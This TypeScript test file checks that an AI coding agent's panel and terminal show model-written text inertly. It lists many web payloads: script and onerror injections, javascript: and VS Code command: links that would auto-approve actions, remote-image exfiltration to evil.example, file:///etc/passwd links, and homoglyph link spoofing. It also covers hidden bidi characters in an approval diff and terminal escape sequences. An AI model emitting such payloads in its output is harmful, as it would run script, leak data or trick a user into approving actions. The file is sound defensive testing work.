/**
 * Attacks by displayed text: the model's words, file names and results. Displayed text is never active, loads nothing, and does not hide
 * where a link leads.
 */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { harmless, oneLine } from '../../../src/hosts/cli/output/terminal.ts';
import { ToHost } from '../../../src/protocol/panel.ts';
import { deliver, findChrome, type Gallery, openGallery } from '../../support/panel-gallery.ts';
import { host, Script, session } from '../../support/panel-states.ts';

function hasChrome(): boolean {
  try {
    return findChrome() !== '';
  } catch {
    return false;
  }
}

const ATTACKS: [what: string, markdown: string][] = [
  ['a script', '<script>window.owned = 1</script>'],
  ['an image with an error handler', '<img src=x onerror="window.owned = 1">'],
  ['a vector image', '<svg onload="window.owned = 1"><script>window.owned = 1</script></svg>'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame with a document', '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>'],
  ['a form', '<form action="https://evil.example/"><input name=key><button>Continue</button></form>'],
  ['a style', '<style>body { display: none }</style>'],
  ['a style that loads', '<p style="background: url(https://evil.example/x)">x</p>'],
  ['another base', '<base href="https://evil.example/">'],
  ['a forwarding', '<meta http-equiv="refresh" content="0; url=https://evil.example/">'],
  ['an object', '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">'],
  ['a link of HTML', '<a href="javascript:window.owned = 1">click</a>'],
  ['a remote image', '![x](https://evil.example/pixel.png?secret)'],
  ['a remote image by reference', '![x][1]\n\n[1]: https://evil.example/pixel.png'],
  ['an image of the disk', '![x](file:///etc/passwd)'],
  ['an image of data', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
  ['an image within a link', '[![x](https://evil.example/p.png)](https://evil.example/)'],
  ['a link that runs script', '[click](javascript:window.owned=1)'],
  ['a link that runs script, in other letters', '[click](JaVaScRiPt:window.owned=1)'],
  ['a link that runs script, with a blank', '[click](<java\tscript:window.owned=1>)'],
  ['a link that runs script, in references', '[click](&#106;avascript:window.owned=1)'],
  ['a link of data', '[click](data:text/html,<script>window.owned=1</script>)'],
  ['a link to a command', '[click](command:workbench.action.terminal.new)'],
  ['a link to a command with arguments', '[click](command:kedge.answerApproval?%5B%22s%22%2C%22a%22%2C%7B%22approve%22%3Atrue%7D%5D)'],
  ['a link to the editor', '[click](vscode://evil.extension/install)'],
  ['a link to a file of the system', '[click](file:///etc/passwd)'],
  ['an automatic link', '<javascript:window.owned=1>'],
  ['an automatic link to a command', '<command:kedge.revoke>'],
  ['a link by reference', '[click][1]\n\n[1]: javascript:window.owned=1'],
  ['HTML in a table', '| a |\n|---|\n| <img src=x onerror="window.owned=1"> |'],
  ['HTML in a heading', '# <img src=x onerror="window.owned=1">'],
  ['HTML in a fence’s language', '```"><img src=x onerror="window.owned=1">\ncode\n```'],
  ['a comment', '<!-- <img src=x onerror="window.owned=1"> -->'],
  ['a template', '<template><img src=x onerror="window.owned=1"></template>'],
  ['a formula with a link', '$\\href{javascript:window.owned=1}{x}$ and $$\\includegraphics{https://evil.example/x.png}$$'],
  ['a formula with HTML', '$\\htmlStyle{background: url(https://evil.example/x)}{x}$ \\(<img src=x onerror="window.owned=1">\\)'],
  ['a footnote', '[^1]\n\n[^1]: <img src=x onerror="window.owned=1"> [x](javascript:window.owned=1)'],
  ['a colored fence', '```html\n<img src=x onerror="window.owned=1"><script>window.owned=1</script>\n```'],
  ['markup that does not end', '<img src=x onerror="window.owned=1"'],
];

describe('text that a model writes, in the panel', () => {
  let gallery: Gallery;
  let page: Page;
  const requested: string[] = [];
  before(async function () {
    if (!hasChrome()) return this.skip();
    gallery = await openGallery();
    page = await gallery.open([host('ask')]);
    // The panel loads the parts of its own that color code and draw formulas.
    const isOwn = (url: string) => /^http:\/\/127\.0\.0\.1:\d+\/panel-\w+\.js$/.test(url);
    page.on('request', (request) => isOwn(request.url()) || requested.push(request.url()));
  });
  after(() => gallery?.[Symbol.asyncDispose]());

  let shown = 0;
  /** Delivers a run with a unique prompt, and waits until that run is displayed. */
  const shows = async (make: (script: Script, prompt: string) => Script) => {
    const prompt = `Look ${++shown}`;
    requested.length = 0;
    await deliver(page, [session(make(new Script(), prompt).finishes(), false)]);
    await page.waitForFunction((text) => document.querySelector('.run')?.textContent?.includes(text), prompt);
  };

  for (const [what, markdown] of ATTACKS)
    it(`is shown as text: ${what}`, async () => {
      await shows((script, prompt) => script.run('ask', prompt).turn().says(`Before.\n\n${markdown}\n\nAfter.`));
      const found = await page.evaluate(() => ({
        active: document.querySelectorAll('.run :is(script, iframe, object, embed, form, style, link, meta, base, svg, template, img)')
          .length,
        handlers: [...document.querySelectorAll('.run *')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on')))
          .length,
        links: [...document.querySelectorAll('.run a')].map((node) => node.getAttribute('href') ?? ''),
        owned: 'owned' in window,
        text: document.querySelector('.run')?.textContent ?? '',
      }));
      assert.deepEqual([found.active, found.handlers, found.owned, requested], [0, 0, false, []]);
      for (const href of found.links) assert.match(href, /^https:\/\/evil\.example\//);
      assert.match(found.text, /Before\.[\s\S]*After\./);
    });

  const LINKS: [what: string, markdown: string, shown: RegExp][] = [
    ['by other words', '[the documentation](https://evil.example/x)', /the documentation \(evil\.example\)/],
    ['by another address', '[https://github.com/login](https://evil.example/x)', /github\.com\/login \(evil\.example\)/],
    ['by a host that only begins alike', '[github.com](https://github.com.evil.example/)', /github\.com \(github\.com\.evil\.example\)/],
    ['by a user name that looks like a host', '[github.com](https://github.com@evil.example/)', /github\.com \(evil\.example\)/],
    ['in letters that look alike', '[аpple.com](https://аpple.com/)', /\(xn--pple-43d\.com\)/],
  ];
  for (const [what, markdown, shown] of LINKS)
    it(`shows the target of a link: ${what}`, async () => {
      await shows((script, prompt) => script.run('ask', prompt).turn().says(markdown));
      assert.match(await page.evaluate(() => document.querySelector('.run .markdown')?.textContent ?? ''), shown);
    });

  it('is shown as text in the title, the reason and the result of a call', async () => {
    const [, evil] = ATTACKS[1] as [string, string];
    await shows((script, prompt) => {
      const called = script.run('agent', `${prompt} ${evil}`).calls('read_file', evil, { path: evil }, { path: evil });
      return called.returns('read_file', evil, 1).turn().says('Done.');
    });
    await page.getByRole('button', { name: /step/ }).first().click();
    assert.deepEqual(await page.evaluate(() => [document.querySelectorAll('.run img').length, 'owned' in window]), [0, false]);
  });

  it('has deceptive characters marked in the question, the path and the diff of an approval', async () => {
    const path = 'src/a\u200b.ts';
    const diff = '@@ -1 +1 @@\n-if (admin) {\n+if (admin\u202e) {\u2066\n';
    const changes = [{ path, kind: 'edit' as const, added: 1, removed: 1, diff }];
    const asked = {
      type: 'approval_requested' as const,
      approvalId: 'a',
      callId: 'c',
      title: `Edit ${path}`,
      rule: 'edit' as const,
      reason: 'This edit changes 1 file.',
    };
    await deliver(page, [session(new Script().run('agent', 'Deceive').add({ ...asked, changes }), true)]);
    await page.waitForSelector('.card.waiting .diff-line');
    const shown = await page.evaluate(() => document.querySelector('.card.waiting')?.textContent ?? '');
    assert.match(shown, /if \(admin⟨U\+202E⟩\) \{⟨U\+2066⟩/);
    assert.match(shown, /Edit src\/a⟨U\+200B⟩\.ts/);
    assert.ok(!/[\u200b\u202e\u2066]/.test(shown), JSON.stringify(shown));
  });
});

describe('an invalid message from the panel to its host', () => {
  const MESSAGES: [what: string, message: object][] = [
    ['an answer that grants what is no scope', { type: 'answer_approval', approvalId: 'a', answer: { approve: true, grant: 'forever' } }],
    [
      'an answer that brings its own grant',
      { type: 'answer_approval', approvalId: 'a', answer: { approve: true, grant: 'run', covers: { kind: 'edits' } } },
    ],
    ['an answer for something before the first', { type: 'answer_approval', approvalId: 'a', answer: { approve: true, covers: -1 } }],
    ['another mode', { type: 'set_mode', mode: 'root' }],
    ['a command', { type: 'run_command', command: 'x' }],
    ['an image that is none', { type: 'prompt', text: 'x', mode: 'ask', images: [{ mediaType: 'image/svg+xml', data: 'PHN2Zz4=' }] }],
  ];
  for (const [what, message] of MESSAGES) it(`is rejected: ${what}`, () => assert.equal(ToHost.safeParse(message).success, false));
});

describe('text that is shown in a terminal', () => {
  const ATTACKS_ON_TERMINALS = [
    '\u001b[2J',
    '\u001b]0;title\u0007',
    '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
    '\u009b31m',
    '\r$ safe command',
    '\u0008\u0008',
    '\u202Ecod.exe',
    '\u2066x\u2069',
  ];
  for (const text of ATTACKS_ON_TERMINALS)
    it(`does not control the terminal: ${JSON.stringify(text)}`, () => {
      for (const shown of [harmless(`a${text}b`), oneLine(`a${text}b`)]) assert.match(shown, /^[^\p{Cc}\u202a-\u202e\u2066-\u2069]*$/u);
    });
});
